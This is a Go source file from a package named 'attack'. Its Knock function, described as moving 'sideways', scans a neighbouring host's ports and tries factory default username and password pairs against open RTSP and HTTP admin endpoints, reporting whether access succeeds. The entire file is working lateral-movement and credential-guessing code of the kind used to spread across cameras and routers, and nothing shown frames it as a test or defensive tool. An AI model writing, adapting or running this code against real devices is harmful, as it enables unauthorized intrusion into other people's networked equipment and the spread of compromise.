package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"
)

// KnockConfig says at which doors of a neighbour to knock.
type KnockConfig struct {
	Target netip.Addr `json:"target"`
	Ports  []uint16   `json:"ports"`
	Pairs  []Pair     `json:"pairs"` // tried by RTSP and HTTP where a door is open
}

// KnockResult tells which doors were open and what let in.
type KnockResult struct {
	Tried uint64   `json:"tried"`
	Open  []uint16 `json:"open"`
	In    bool     `json:"in"`
	Error string   `json:"error,omitempty"`
}

// Knock moves sideways: it looks which doors of a neighbour are open and tries
// factory passwords at those that it can read.
func Knock(ctx context.Context, c KnockConfig) (r KnockResult, err error) {
	if !c.Target.Is4() || len(c.Ports) == 0 || len(c.Ports) > 32 || len(c.Pairs) > 32 {
		return r, fmt.Errorf("knocking at %s on %d ports: out of bounds", c.Target, len(c.Ports))
	}
	for _, port := range c.Ports {
		at := netip.AddrPortFrom(c.Target, port)
		r.Tried++
		if _, err := knock(ctx, at, ""); err != nil {
			r.Error = err.Error()
			continue
		}
		r.Open = append(r.Open, port)
		for _, p := range c.Pairs {
			var ask string
			switch port {
			case 554:
				ask = "DESCRIBE rtsp://" + at.String() + "/ RTSP/1.0\r\nCSeq: 2\r\n" + basic(p) + "\r\n"
			case 80:
				ask = "GET /admin HTTP/1.0\r\n" + basic(p) + "\r\n"
			default:
				continue
			}
			if answer, err := knock(ctx, at, ask); err == nil && strings.Contains(answer, " 200 ") {
				r.In = true
			}
			if !pause(ctx, 100*time.Millisecond) {
				return r, nil
			}
		}
	}
	return r, nil
}

// basic is the header that carries a pair (RFC 7617).
func basic(p Pair) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(p.User+":"+p.Password)) + "\r\n"
}

// knock opens a connection, says what is to be said, and reads the first line.
func knock(ctx context.Context, at netip.AddrPort, text string) (string, error) {
	d := net.Dialer{Timeout: time.Second}
	conn, err := d.DialContext(ctx, "tcp4", at.String())
	if err != nil || text == "" {
		if err == nil {
			err = conn.Close()
		}
		return "", err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := io.WriteString(conn, text); err != nil {
		return "", err
	}
	b := make([]byte, 64)
	n, err := conn.Read(b)
	return string(b[:n]), err
}
